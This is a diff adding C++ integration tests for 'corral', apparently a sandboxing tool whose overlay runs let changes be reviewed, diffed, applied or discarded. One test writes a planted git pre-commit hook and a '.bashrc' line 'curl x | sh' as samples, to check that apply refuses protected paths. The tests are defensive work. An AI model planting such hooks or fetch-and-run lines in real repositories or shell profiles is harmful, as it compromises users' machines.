@@ -1,0 +1,376 @@
+// `corral run --overlay` and the review after it (`corral changes | diff |
+// apply | discard`), through the binary, judged from outside: the real
+// tree is read by the test while the command still runs, apply's results
+// are read in the real tree, and what apply refuses is checked absent.
+#include <fcntl.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include <filesystem>
+#include <map>
+
+#include "harness.h"
+
+namespace corral_it {
+namespace {
+
+namespace fs = std::filesystem;
+
+// Every entry below `root`: its type and mode, and a file's bytes or a
+// symlink's text. Nothing is followed.
+std::map<std::string, std::string> Snapshot(const std::string& root) {
+  std::map<std::string, std::string> out;
+  for (auto it = fs::recursive_directory_iterator(root, fs::directory_options::none); it != fs::end(it); ++it) {
+    const std::string path = it->path().string();
+    struct stat st;
+    if (::lstat(path.c_str(), &st) != 0) continue;
+    std::string value = std::to_string(st.st_mode) + ":";
+    if (S_ISREG(st.st_mode)) value += ReadFile(path).value_or("<unreadable>");
+    if (S_ISLNK(st.st_mode)) value += fs::read_symlink(it->path()).string();
+    out[path.substr(root.size())] = value;
+  }
+  return out;
+}
+
+class Overlay : public SandboxTest {
+ protected:
+  // The overlay run id of the last run (its `overlay` audit record).
+  std::string LastRun() {
+    std::vector<nlohmann::json> records = AuditEvents("overlay");
+    return records.empty() ? std::string() : records.back().value("overlay_run", "");
+  }
+  std::string Runs() const { return state_ / "corral/overlay"; }
+  std::string Upper(const std::string& run) const { return Runs() + "/" + run + "/upper"; }
+  std::string ApplyAudit() const { return outside_ / "apply.jsonl"; }
+
+  // A workspace with one of everything the diff test changes.
+  void Populate() {
+    workspace_.Write("keep.txt", "unchanged\n");
+    workspace_.Write("edit.txt", "one\ntwo\nthree\n");
+    workspace_.Write("gone.txt", "to be deleted\n");
+    workspace_.Write("old-name.txt", "moved content, long enough to be recognised\n");
+    workspace_.Write("run.sh", "#!/bin/sh\necho hi\n", 0644);
+    workspace_.Write("tree/a/one.txt", "1\n");
+    workspace_.Write("tree/b/two.txt", "2\n");
+  }
+  // Changes one of everything (run inside the overlay).
+  std::string Changes() const {
+    return "printf 'one\\nTWO\\nthree\\n' > edit.txt && rm gone.txt && mv old-name.txt new-name.txt && "
+           "chmod 755 run.sh && mkdir empty-dir && rm -r tree && printf 'bin\\000ary' > blob.bin && "
+           "printf 'spaced\\n' > 'with space.txt' && printf 'latin\\n' > \"$(printf 'caf\\351.txt')\" && "
+           "printf 'new\\n' > added.txt";
+  }
+  Outcome OverlayRun(const std::string& script) { return RunIn({"--overlay"}, {"sh", "-c", script}); }
+};
+
+TEST_F(Overlay, TheRealTreeIsByteForByteUnchangedWhileTheCommandRuns) {
+  Populate();
+  const std::map<std::string, std::string> before = Snapshot(workspace_.path());
+  Process run(RunArgv({"--overlay"}, {"sh", "-c", Changes() + " && echo READY && sleep 2"}),
+              Defaults({}));
+  ASSERT_TRUE(WaitFor([&] { return run.OutputSoFar().find("READY") != std::string::npos; }, 20s))
+      << run.OutputSoFar();
+  ASSERT_TRUE(run.Running());
+  // Read from outside while the command still runs.
+  EXPECT_EQ(Snapshot(workspace_.path()), before) << "the command's writes reached the real tree";
+  const Outcome& done = run.Wait();
+  ASSERT_EQ(done.exit_code, 0) << done.Describe();
+  EXPECT_EQ(Snapshot(workspace_.path()), before);
+  const std::string id = LastRun();
+  ASSERT_FALSE(id.empty()) << done.Describe();
+  EXPECT_EQ(ReadFile(Upper(id) + "/added.txt"), "new\n") << "the write went to the upper layer";
+  // The summary: counts, the rename, the id and what to do next.
+  EXPECT_NE(done.err.find("overlay run " + id + ": "), std::string::npos) << done.err;
+  EXPECT_NE(done.err.find("renamed   old-name.txt -> new-name.txt"), std::string::npos) << done.err;
+  EXPECT_NE(done.err.find("mode      run.sh (0644 -> 0755)"), std::string::npos) << done.err;
+  EXPECT_NE(done.err.find("corral apply " + id), std::string::npos) << done.err;
+  std::vector<nlohmann::json> records = AuditEvents("overlay");
+  ASSERT_EQ(records.size(), 1u);
+  EXPECT_EQ(records[0]["root"], workspace_.path());
+  EXPECT_GT(records[0].value("upper_bytes", 0), 0);
+  EXPECT_EQ(records[0].dump().find("TWO"), std::string::npos) << "contents never reach the trail";
+}
+
+TEST_F(Overlay, DiffShowsExactlyTheChanges) {
+  Populate();
+  Outcome run = OverlayRun(Changes());
+  ASSERT_EQ(run.exit_code, 0) << run.Describe();
+  Outcome json = Corral({"diff", "--json"});
+  ASSERT_EQ(json.exit_code, 0) << json.Describe();
+  nlohmann::json doc = nlohmann::json::parse(json.out, nullptr, false);
+  ASSERT_TRUE(doc.is_object()) << json.Describe();
+  std::map<std::string, std::string> kinds;
+  for (const nlohmann::json& change : doc["changes"]) {
+    std::string path = change["path"].is_string() ? change["path"].get<std::string>()
+                                                   : "hex:" + change["path"]["bytes_hex"].get<std::string>();
+    kinds[path] = change["kind"].get<std::string>() + (change.contains("renamed_from") ? "<-" + change["renamed_from"].get<std::string>() : "");
+  }
+  std::map<std::string, std::string> expected = {
+      {"added.txt", "added"},         {"blob.bin", "added"},       {"edit.txt", "modified"},
+      {"empty-dir", "added"},         {"gone.txt", "deleted"},     {"new-name.txt", "added<-old-name.txt"},
+      {"old-name.txt", "deleted"},    {"run.sh", "mode"},          {"tree", "deleted"},
+      {"with space.txt", "added"},    {"hex:636166e92e747874", "added"},
+  };
+  EXPECT_EQ(kinds, expected) << json.out;
+
+  Outcome diff = Corral({"diff"});
+  ASSERT_EQ(diff.exit_code, 0) << diff.Describe();
+  EXPECT_NE(diff.out.find("--- a/edit.txt\n+++ b/edit.txt\n@@ -1,3 +1,3 @@\n one\n-two\n+TWO\n three\n"),
+            std::string::npos)
+      << diff.out;
+  EXPECT_NE(diff.out.find("Binary files /dev/null and b/blob.bin differ"), std::string::npos) << diff.out;
+  EXPECT_NE(diff.out.find("old mode 100644\nnew mode 100755"), std::string::npos) << diff.out;
+  EXPECT_NE(diff.out.find("new directory empty-dir/"), std::string::npos) << diff.out;
+  EXPECT_NE(diff.out.find("deleted directory tree/"), std::string::npos) << diff.out;
+  EXPECT_NE(diff.out.find("+++ b/with space.txt"), std::string::npos) << diff.out;
+  EXPECT_NE(diff.out.find("-to be deleted"), std::string::npos) << diff.out;
+  EXPECT_EQ(diff.out.find(std::string("bin\0ary", 7)), std::string::npos) << "a binary file is named, not dumped";
+
+  Outcome stat = Corral({"diff", "--stat"});
+  EXPECT_NE(stat.out.find("  changed   edit.txt (14 B -> 14 B)"), std::string::npos) << stat.out;
+  EXPECT_NE(stat.out.find("  deleted   tree/"), std::string::npos) << stat.out;
+}
+
+TEST_F(Overlay, ApplyAllLandsEveryChangeAndASecondApplyChangesNothing) {
+  Populate();
+  ASSERT_EQ(OverlayRun(Changes()).exit_code, 0);
+  Outcome applied = Corral({"apply", "--audit", ApplyAudit()});
+  ASSERT_EQ(applied.exit_code, 0) << applied.Describe();
+  EXPECT_EQ(ReadFile(workspace_ / "edit.txt"), "one\nTWO\nthree\n");
+  EXPECT_FALSE(Exists(workspace_ / "gone.txt"));
+  EXPECT_FALSE(Exists(workspace_ / "old-name.txt"));
+  EXPECT_EQ(ReadFile(workspace_ / "new-name.txt"), "moved content, long enough to be recognised\n");
+  struct stat st;
+  ASSERT_EQ(::stat((workspace_ / "run.sh").c_str(), &st), 0);
+  EXPECT_EQ(st.st_mode & 07777, 0755u);
+  EXPECT_TRUE(fs::is_directory(workspace_ / "empty-dir"));
+  EXPECT_FALSE(Exists(workspace_ / "tree"));
+  EXPECT_EQ(ReadFile(workspace_ / "blob.bin"), std::string("bin\0ary", 7));
+  EXPECT_EQ(ReadFile(workspace_ / "with space.txt"), "spaced\n");
+  EXPECT_EQ(ReadFile(workspace_ / "caf\xe9.txt"), "latin\n");
+  EXPECT_EQ(ReadFile(workspace_ / "keep.txt"), "unchanged\n");
+  for (const std::string& entry : workspace_.Listing()) {
+    EXPECT_EQ(entry.find(".corral-apply"), std::string::npos) << "a temporary name was left: " << entry;
+  }
+  std::vector<nlohmann::json> records = ReadAudit(ApplyAudit());
+  ASSERT_EQ(records.size(), 1u);
+  EXPECT_EQ(records[0]["event"], "applied");
+  EXPECT_EQ(records[0]["held_back"].size(), 0u);
+  EXPECT_EQ(records[0].dump().find("TWO"), std::string::npos) << "contents never reach the trail";
+
+  const std::map<std::string, std::string> after = Snapshot(workspace_.path());
+  Outcome again = Corral({"apply"});
+  EXPECT_EQ(again.exit_code, 0) << again.Describe();
+  EXPECT_EQ(Snapshot(workspace_.path()), after);
+  Outcome pending = Corral({"changes"});
+  EXPECT_NE(pending.out.find(" 0 pending change(s)"), std::string::npos) << pending.Describe();
+}
+
+TEST_F(Overlay, ApplyOfASubsetLandsOnlyThosePaths) {
+  Populate();
+  ASSERT_EQ(OverlayRun(Changes()).exit_code, 0);
+  Outcome applied = Corral({"apply", "edit.txt", workspace_ / "tree"});
+  ASSERT_EQ(applied.exit_code, 0) << applied.Describe();
+  EXPECT_EQ(ReadFile(workspace_ / "edit.txt"), "one\nTWO\nthree\n");
+  EXPECT_FALSE(Exists(workspace_ / "tree"));
+  EXPECT_TRUE(Exists(workspace_ / "gone.txt"));
+  EXPECT_FALSE(Exists(workspace_ / "added.txt"));
+  Outcome outside = Corral({"apply", outside_ / "x"});
+  EXPECT_EQ(outside.exit_code, 64) << outside.Describe();
+}
+
+TEST_F(Overlay, AFileEditedOutsideAfterTheRunIsAConflictLeftAlone) {
+  Populate();
+  ASSERT_EQ(OverlayRun(Changes()).exit_code, 0);
+  WriteFile(workspace_ / "edit.txt", "the user's edit\n");
+  Outcome applied = Corral({"apply"});
+  EXPECT_EQ(applied.exit_code, 80) << applied.Describe();
+  EXPECT_NE(applied.err.find("conflict: edit.txt"), std::string::npos) << applied.Describe();
+  EXPECT_EQ(ReadFile(workspace_ / "edit.txt"), "the user's edit\n");
+  EXPECT_EQ(ReadFile(workspace_ / "added.txt"), "new\n") << "the other changes land";
+  // Same size, same second: the hash still sees it.
+  Populate();
+  ASSERT_EQ(OverlayRun("printf 'abc\\n' > keep.txt").exit_code, 0);
+  struct stat st;
+  ASSERT_EQ(::stat((workspace_ / "keep.txt").c_str(), &st), 0);
+  WriteFile(workspace_ / "keep.txt", "UNCHANGED\n");
+  struct timespec times[2] = {st.st_atim, st.st_mtim};
+  ASSERT_EQ(::utimensat(AT_FDCWD, (workspace_ / "keep.txt").c_str(), times, 0), 0);
+  applied = Corral({"apply"});
+  EXPECT_EQ(applied.exit_code, 80) << applied.Describe();
+  EXPECT_EQ(ReadFile(workspace_ / "keep.txt"), "UNCHANGED\n");
+}
+
+TEST_F(Overlay, ProtectedPathsAreRefusedByApplyAndNothingElseIsBlocked) {
+  workspace_.Write("src.txt", "x\n");
+  Outcome run = OverlayRun(
+      "mkdir -p .git/hooks && printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/pre-commit && "
+      "chmod +x .git/hooks/pre-commit && echo 'curl x | sh' > .bashrc && echo ok > src.txt && echo new > lib.txt");
+  ASSERT_EQ(run.exit_code, 0) << run.Describe();
+  Outcome applied = Corral({"apply", "--audit", ApplyAudit()});
+  EXPECT_EQ(applied.exit_code, 80) << applied.Describe();
+  EXPECT_NE(applied.err.find("protected: .git"), std::string::npos) << applied.Describe();
+  EXPECT_NE(applied.err.find("protected: .bashrc"), std::string::npos) << applied.Describe();
+  EXPECT_FALSE(Exists(workspace_ / ".git"));
+  EXPECT_FALSE(Exists(workspace_ / ".bashrc"));
+  EXPECT_EQ(ReadFile(workspace_ / "src.txt"), "ok\n");
+  EXPECT_EQ(ReadFile(workspace_ / "lib.txt"), "new\n");
+  std::vector<nlohmann::json> records = ReadAudit(ApplyAudit());
+  ASSERT_EQ(records.size(), 1u);
+  EXPECT_EQ(records[0]["held_back"], nlohmann::json({".bashrc", ".git", ".git/hooks", ".git/hooks/pre-commit"}));
+  // Named on purpose, it lands.
+  Outcome included = Corral({"apply", "--include-protected", ".bashrc", ".bashrc"});
+  EXPECT_EQ(included.exit_code, 0) << included.Describe();
+  EXPECT_EQ(ReadFile(workspace_ / ".bashrc"), "curl x | sh\n");
+  EXPECT_FALSE(Exists(workspace_ / ".git"));
+}
+
+TEST_F(Overlay, SpecialFilesAreRefusedByApply) {
+  Outcome run = OverlayRun("mkfifo pipe && echo fine > plain.txt");
+  ASSERT_EQ(run.exit_code, 0) << run.Describe();
+  EXPECT_NE(run.err.find("[refused: a FIFO]"), std::string::npos) << run.Describe();
+  Outcome applied = Corral({"apply"});
+  EXPECT_EQ(applied.exit_code, 80) << applied.Describe();
+  EXPECT_NE(applied.err.find("refused: pipe: a FIFO"), std::string::npos) << applied.Describe();
+  EXPECT_FALSE(Exists(workspace_ / "pipe"));
+  EXPECT_EQ(ReadFile(workspace_ / "plain.txt"), "fine\n");
+}
+
+// Another run (or anyone) swaps a real directory for a symlink to outside
+// after the overlay run: apply must not write through it. And a symlink the
+// command made lands as a symlink, never as what it points at.
+TEST_F(Overlay, ApplyNeverFollowsASymlinkInTheRealTreeOrTheUpper) {
+  workspace_.Write("sub/file.txt", "old\n");
+  Outcome run = OverlayRun("echo new > sub/file.txt && echo planted > sub/extra.txt && ln -s " + outside_.path() +
+                           " escape && echo safe > plain.txt");
+  ASSERT_EQ(run.exit_code, 0) << run.Describe();
+  fs::rename(workspace_ / "sub", outside_ / "moved-sub");
+  ASSERT_EQ(::symlink(outside_.path().c_str(), (workspace_ / "sub").c_str()), 0);
+  Outcome applied = Corral({"apply"});
+  EXPECT_EQ(applied.exit_code, 80) << applied.Describe();
+  EXPECT_FALSE(Exists(outside_ / "file.txt")) << "apply wrote through a symlink in the real tree";
+  EXPECT_FALSE(Exists(outside_ / "extra.txt")) << "apply wrote through a symlink in the real tree";
+  EXPECT_EQ(ReadFile(outside_ / "moved-sub/file.txt"), "old\n");
+  EXPECT_TRUE(fs::is_symlink(workspace_ / "escape"));
+  EXPECT_EQ(fs::read_symlink(workspace_ / "escape").string(), outside_.path());
+  EXPECT_EQ(ReadFile(workspace_ / "plain.txt"), "safe\n");
+}
+
+TEST_F(Overlay, DiscardLeavesNothingBehindInTheStateDirectory) {
+  Populate();
+  const std::map<std::string, std::string> before = Snapshot(workspace_.path());
+  ASSERT_EQ(OverlayRun(Changes()).exit_code, 0);
+  const std::string id = LastRun();
+  ASSERT_TRUE(Exists(Upper(id)));
+  Outcome discarded = Corral({"discard", "--audit", ApplyAudit(), id});
+  ASSERT_EQ(discarded.exit_code, 0) << discarded.Describe();
+  EXPECT_TRUE(fs::is_empty(Runs())) << "something of the run is left";
+  EXPECT_EQ(Snapshot(workspace_.path()), before);
+  std::vector<nlohmann::json> records = ReadAudit(ApplyAudit());
+  ASSERT_EQ(records.size(), 1u);
+  EXPECT_EQ(records[0]["event"], "discarded");
+  EXPECT_EQ(records[0]["overlay_run"], id);
+  Outcome again = Corral({"apply", id});
+  EXPECT_EQ(again.exit_code, 64) << again.Describe();
+}
+
+// A run holds its overlay while it lives: an apply (or a discard) of the
+// same run id is refused at once, and changes nothing.
+TEST_F(Overlay, AnApplyRacingTheRunItAppliesIsRefused) {
+  workspace_.Write("f.txt", "old\n");
+  Process run(RunArgv({"--overlay"}, {"sh", "-c", "echo new > f.txt && echo READY && sleep 3"}), Defaults({}));
+  ASSERT_TRUE(WaitFor([&] { return run.OutputSoFar().find("READY") != std::string::npos; }, 20s));
+  std::vector<std::string> ids;
+  for (const auto& entry : fs::directory_iterator(Runs())) ids.push_back(entry.path().filename().string());
+  ASSERT_EQ(ids.size(), 1u);
+  Outcome applied = Corral({"apply", ids[0]});
+  EXPECT_EQ(applied.exit_code, 77) << applied.Describe();
+  EXPECT_NE(applied.err.find("busy"), std::string::npos) << applied.Describe();
+  Outcome discarded = Corral({"discard", ids[0]});
+  EXPECT_EQ(discarded.exit_code, 77) << discarded.Describe();
+  EXPECT_EQ(ReadFile(workspace_ / "f.txt"), "old\n");
+  ASSERT_EQ(run.Wait().exit_code, 0);
+  // Two applies at once: one lands everything, the other is refused or finds it done.
+  Process first({CorralBin(), "apply", ids[0]}, Defaults({}));
+  Process second({CorralBin(), "apply", ids[0]}, Defaults({}));
+  int a = first.Wait().exit_code, b = second.Wait().exit_code;
+  EXPECT_TRUE((a == 0 || a == 77) && (b == 0 || b == 77) && (a == 0 || b == 0))
+      << first.Wait().Describe() << second.Wait().Describe();
+  EXPECT_EQ(ReadFile(workspace_ / "f.txt"), "new\n");
+}
+
+// An --allow-write grant inside the workspace is the workspace's: its
+// writes go to the upper too, never to the real tree.
+TEST_F(Overlay, AWritableGrantInsideTheWorkspaceDoesNotPierceTheOverlay) {
+  workspace_.Write("inner/old.txt", "old\n");
+  Outcome run = RunIn({"--overlay", "--allow-write", workspace_ / "inner"},
+                      {"sh", "-c", "echo new > inner/new.txt && echo changed > inner/old.txt"});
+  ASSERT_EQ(run.exit_code, 0) << run.Describe();
+  EXPECT_FALSE(Exists(workspace_ / "inner/new.txt"));
+  EXPECT_EQ(ReadFile(workspace_ / "inner/old.txt"), "old\n");
+  EXPECT_EQ(ReadFile(Upper(LastRun()) + "/inner/new.txt"), "new\n");
+}
+
+// A run that changed nothing keeps nothing.
+TEST_F(Overlay, ARunThatChangesNothingKeepsNoOverlay) {
+  workspace_.Write("f.txt", "x\n");
+  Outcome run = OverlayRun("cat f.txt");
+  ASSERT_EQ(run.exit_code, 0) << run.Describe();
+  EXPECT_NE(run.err.find("no changes"), std::string::npos) << run.Describe();
+  EXPECT_TRUE(!Exists(Runs()) || fs::is_empty(Runs()));
+}
+
+// The layers over the workspace stay over the overlay: a forbid_read mask
+// still hides the secret, and an existing hooks directory stays read-only.
+TEST_F(Overlay, MasksAndProtectedBindsStayOverTheOverlay) {
+  const std::string secret = RandomToken("SECRET");
+  workspace_.Write(".env", secret + "\n");
+  workspace_.Write(".git/config", "[core]\n");
+  workspace_.Mkdir(".git/hooks");
+  Outcome run = RunIn({"--overlay", "--forbid-read", ".env"},
+                      {"sh", "-c", "cat .env; echo x > .git/hooks/pre-commit; echo hook=$?; echo ok > plain.txt"});
+  ASSERT_EQ(run.exit_code, 0) << run.Describe();
+  EXPECT_EQ(run.out.find(secret), std::string::npos) << run.Describe();
+  EXPECT_NE(run.out.find("hook=2"), std::string::npos) << run.Describe();
+  EXPECT_FALSE(Exists(Upper(LastRun()) + "/.git/hooks/pre-commit"));
+  EXPECT_EQ(ReadFile(Upper(LastRun()) + "/plain.txt"), "ok\n");
+}
+
+// Where the upper cannot be made, --overlay fails closed: no process, one
+// line, even under --best-effort (the fallback would write the real tree).
+TEST_F(Overlay, WithoutAStateDirectoryTheRunFailsClosed) {
+  workspace_.Write("f.txt", "old\n");
+  SpawnOptions options;
+  options.env["XDG_STATE_HOME"] = "/proc/corral-no-such-dir";
+  Outcome run = RunIn({"--overlay", "--best-effort"}, {"sh", "-c", "echo new > f.txt"}, options);
+  EXPECT_EQ(run.exit_code, 125) << run.Describe();
+  EXPECT_NE(run.err.find("--overlay: the upper layer lives in corral's state directory"), std::string::npos)
+      << run.Describe();
+  EXPECT_TRUE(AuditEvents("spawned").empty()) << "nothing may run";
+  EXPECT_EQ(ReadFile(workspace_ / "f.txt"), "old\n");
+}
+
+TEST_F(Overlay, ALargeTreeRunsDiffsAndApplies) {
+  const std::string chunk(20 * 1024, 'x');
+  for (int i = 0; i < 10000; ++i) workspace_.Write("big/d" + std::to_string(i % 100) + "/f" + std::to_string(i), chunk);
+  Outcome run = RunIn({"--overlay", "--timeout", "300"},
+                      {"sh", "-c", "for f in big/*/*; do echo y >> \"$f\"; done"}, [] {
+                        SpawnOptions options;
+                        options.timeout = 300s;
+                        return options;
+                      }());
+  ASSERT_EQ(run.exit_code, 0) << run.Describe();
+  EXPECT_EQ(ReadFile(workspace_ / "big/d7/f7"), chunk) << "the real tree is untouched";
+  SpawnOptions slow;
+  slow.timeout = 300s;
+  Outcome stat = Corral({"diff", "--stat"}, slow);
+  ASSERT_EQ(stat.exit_code, 0) << stat.Describe();
+  EXPECT_NE(stat.out.find("10000 change(s)"), std::string::npos) << stat.out.substr(stat.out.size() - 200);
+  Outcome applied = Corral({"apply"}, slow);
+  ASSERT_EQ(applied.exit_code, 0) << applied.Describe();
+  EXPECT_EQ(ReadFile(workspace_ / "big/d7/f7"), chunk + "y\n");
+  EXPECT_EQ(ReadFile(workspace_ / "big/d99/f9999"), chunk + "y\n");
+}
+
+}  // namespace
+}  // namespace corral_it
